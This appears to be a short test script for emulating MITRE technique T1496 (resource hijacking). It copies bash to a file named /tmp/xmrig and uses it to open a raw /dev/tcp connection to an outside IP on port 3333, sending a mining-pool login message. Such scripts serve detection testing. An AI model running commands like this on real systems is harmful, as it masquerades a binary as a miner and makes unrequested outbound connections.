# title: A miner talks to its pool
# technique: T1496.001 T1496
# needs: bash
# short: yes

cp /bin/bash /tmp/xmrig
/tmp/xmrig -c 'exec 3<>/dev/tcp/192.88.99.7/3333; echo "{\"method\":\"login\"}" >&3; :' -o stratum+tcp://192.88.99.7:3333 -u wallet --donate-level 1
